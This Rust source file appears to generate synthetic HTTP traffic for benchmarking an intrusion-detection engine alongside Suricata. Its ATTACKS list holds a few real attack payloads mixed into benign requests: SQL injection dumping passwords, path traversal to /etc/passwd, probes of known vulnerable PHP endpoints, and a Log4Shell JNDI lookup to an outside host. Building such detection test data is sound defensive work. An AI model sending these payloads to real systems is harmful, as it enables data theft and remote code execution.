//! Deterministic, realistic HTTP/1.1 traffic for the scan benchmark: browsers and API
//! clients fetching pages, scripts, images and JSON over keep-alive connections, with a few
//! attacks mixed in. The same traffic is written as a pcap for Suricata
//! (`ids-corpus bench`), so both engines scan identical bytes.

/// One request and its response, as sent on the wire.
pub(crate) struct Exchange {
    pub(crate) request: Vec<u8>,
    pub(crate) response: Vec<u8>,
}

/// Requests per keep-alive connection.
pub(crate) const PER_CONNECTION: usize = 8;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const HOSTS: &[&str] = &[
    "shop.internal.example",
    "api.internal.example",
    "intranet.corp.example",
    "static.internal.example",
    "hr.corp.example",
];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
];
const WORDS: &[&str] = &[
    "order",
    "customer",
    "invoice",
    "product",
    "report",
    "quarter",
    "revenue",
    "account",
    "shipping",
    "warehouse",
    "payroll",
    "employee",
    "calendar",
    "meeting",
    "project",
    "status",
    "the",
    "and",
    "with",
    "for",
    "from",
    "update",
    "total",
    "price",
    "description",
    "available",
];
const ATTACKS: &[&str] = &[
    "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/download.php?file=../../../../etc/passwd",
];

fn words(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| rng.pick(WORDS))
        .collect::<Vec<_>>()
        .join(" ")
}

fn html(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>");
    out.push_str(&words(rng, 4));
    out.push_str("</title><link rel=\"stylesheet\" href=\"/static/css/site.css\"></head><body><div class=\"container\">");
    while out.len() < size {
        match rng.below(4) {
            0 => out.push_str(&format!("<h2>{}</h2>", words(rng, 3))),
            1 => out.push_str(&format!("<p>{}.</p>", words(rng, 24))),
            2 => out.push_str(&format!(
                "<a href=\"/{}/{}\">{}</a>",
                rng.pick(WORDS),
                rng.below(10000),
                words(rng, 2)
            )),
            _ => out.push_str(&format!(
                "<tr><td>{}</td><td>{}.{:02}</td></tr>",
                rng.pick(WORDS),
                rng.below(1000),
                rng.below(100)
            )),
        }
    }
    out.push_str("</div><script src=\"/static/js/app.js\"></script></body></html>");
    out.into_bytes()
}

fn json(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("{\"items\":[");
    let mut first = true;
    while out.len() < size {
        if !first {
            out.push(',');
        }
        first = false;
        out.push_str(&format!(
            "{{\"id\":{},\"name\":\"{}\",\"price\":{}.{:02},\"tags\":[\"{}\",\"{}\"]}}",
            rng.below(1_000_000),
            words(rng, 2),
            rng.below(500),
            rng.below(100),
            rng.pick(WORDS),
            rng.pick(WORDS)
        ));
    }
    out.push_str("]}");
    out.into_bytes()
}

fn script(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("\"use strict\";(function(){");
    while out.len() < size {
        out.push_str(&format!(
            "function {}_{}(a,b){{var c=a.{}(b);return c&&c.length>{}?c.slice(0,{}):null}}",
            rng.pick(WORDS),
            rng.below(1000),
            rng.pick(WORDS),
            rng.below(64),
            rng.below(64)
        ));
    }
    out.push_str("})();");
    out.into_bytes()
}

fn binary(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    while out.len() < size {
        out.extend_from_slice(&rng.next().to_le_bytes());
    }
    out
}

/// `count` exchanges, the same every time.
pub(crate) fn exchanges(count: usize) -> Vec<Exchange> {
    let mut rng = Rng(0x5EED_1D5F_00D5_CAFE);
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let host = rng.pick(HOSTS);
        let ua = rng.pick(UAS);
        let attack = i % 97 == 13;
        let kind = rng.below(10);
        let (method, target, body, ctype, resp_body): (&str, String, Vec<u8>, &str, Vec<u8>) =
            if attack {
                let a = rng.pick(ATTACKS);
                (
                    "GET",
                    a.to_string(),
                    Vec::new(),
                    "text/html",
                    html(&mut rng, 800),
                )
            } else {
                match kind {
                    0..=2 => {
                        let path = format!("/{}/{}", rng.pick(WORDS), rng.below(100_000));
                        let size = 2000 + rng.below(30_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "text/html; charset=utf-8",
                            html(&mut rng, size),
                        )
                    }
                    3..=4 => {
                        let path = format!(
                            "/api/v2/{}s?page={}&limit=50&sort={}",
                            rng.pick(WORDS),
                            rng.below(40),
                            rng.pick(WORDS)
                        );
                        let size = 500 + rng.below(12_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "application/json",
                            json(&mut rng, size),
                        )
                    }
                    5 => {
                        let path = format!(
                            "/static/js/{}.{:x}.js",
                            rng.pick(WORDS),
                            rng.next() & 0xffff_ffff
                        );
                        let size = 4000 + rng.below(40_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "application/javascript",
                            script(&mut rng, size),
                        )
                    }
                    6 => {
                        let path = format!("/images/{}-{}.png", rng.pick(WORDS), rng.below(500));
                        let size = 1000 + rng.below(20_000);
                        ("GET", path, Vec::new(), "image/png", binary(&mut rng, size))
                    }
                    7..=8 => {
                        let path = format!("/api/v2/{}s", rng.pick(WORDS));
                        let size = 100 + rng.below(1500);
                        let body = json(&mut rng, size);
                        ("POST", path, body, "application/json", json(&mut rng, 200))
                    }
                    _ => {
                        let body = format!(
                            "username={}&password={}{}&remember=on",
                            rng.pick(WORDS),
                            rng.pick(WORDS),
                            rng.below(9999)
                        )
                        .into_bytes();
                        (
                            "POST",
                            "/login".to_string(),
                            body,
                            "text/html",
                            html(&mut rng, 1500),
                        )
                    }
                }
            };
        let mut req = format!(
            "{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: text/html,application/xhtml+xml,application/json;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nReferer: https://{host}/{}\r\nCookie: session={:016x}; theme=light\r\nConnection: keep-alive\r\n",
            rng.pick(WORDS),
            rng.next()
        );
        if !body.is_empty() {
            let ct = if body.starts_with(b"{") {
                "application/json"
            } else {
                "application/x-www-form-urlencoded"
            };
            req.push_str(&format!(
                "Content-Type: {ct}\r\nContent-Length: {}\r\n",
                body.len()
            ));
        }
        req.push_str("\r\n");
        let mut request = req.into_bytes();
        request.extend_from_slice(&body);
        let mut response = format!(
            "HTTP/1.1 200 OK\r\nDate: Tue, 14 Nov 2023 22:13:20 GMT\r\nServer: nginx/1.24.0\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nCache-Control: max-age=60\r\nETag: \"{:08x}\"\r\nConnection: keep-alive\r\n\r\n",
            resp_body.len(),
            rng.next() & 0xffff_ffff
        )
        .into_bytes();
        response.extend_from_slice(&resp_body);
        out.push(Exchange { request, response });
    }
    out
}

/// The exchanges the benchmark scans.
pub(crate) const BENCH_EXCHANGES: usize = 2400;

/// The shapes of traffic the benchmark scans.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Shape {
    /// Pages, API calls, scripts, images and logins over keep-alive connections
    /// ([`exchanges`]): about 29 MB.
    Web,
    /// Large transfers: downloads of 1 to 4 MiB and uploads of 256 KiB to 1 MiB, two per
    /// connection ([`bulk_exchanges`]): about 115 MB, most of it past what is inspected.
    Bulk,
}

impl Shape {
    /// As the benchmark names it.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Shape::Web => "web",
            Shape::Bulk => "bulk",
        }
    }

    /// Its exchanges, the same every time, and how many go on one connection.
    pub(crate) fn traffic(self) -> (Vec<Exchange>, usize) {
        match self {
            Shape::Web => (exchanges(BENCH_EXCHANGES), PER_CONNECTION),
            Shape::Bulk => (bulk_exchanges(48), 2),
        }
    }
}

/// `count` large transfers, the same every time: three downloads of binary files for one
/// upload of a form with a file.
pub(crate) fn bulk_exchanges(count: usize) -> Vec<Exchange> {
    let mut rng = Rng(0xB01C_DA7A_5EED_0001);
    (0..count)
        .map(|i| {
            let host = rng.pick(HOSTS);
            let ua = rng.pick(UAS);
            let (request, body) = if i % 4 == 3 {
                let size = 256 * 1024 + rng.below(768 * 1024);
                let body = binary(&mut rng, size);
                let head = format!(
                    "POST /upload/{} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
                    rng.pick(WORDS),
                    body.len()
                );
                ([head.into_bytes(), body].concat(), b"{\"stored\":true}".to_vec())
            } else {
                let head = format!(
                    "GET /downloads/{}-{}.bin HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n",
                    rng.pick(WORDS),
                    rng.below(1000)
                );
                let size = 1024 * 1024 + rng.below(3 * 1024 * 1024);
                (head.into_bytes(), binary(&mut rng, size))
            };
            let ctype = if i % 4 == 3 {
                "application/json"
            } else {
                "application/octet-stream"
            };
            let mut response = format!(
                "HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: keep-alive\r\n\r\n",
                body.len()
            )
            .into_bytes();
            response.extend_from_slice(&body);
            Exchange { request, response }
        })
        .collect()
}
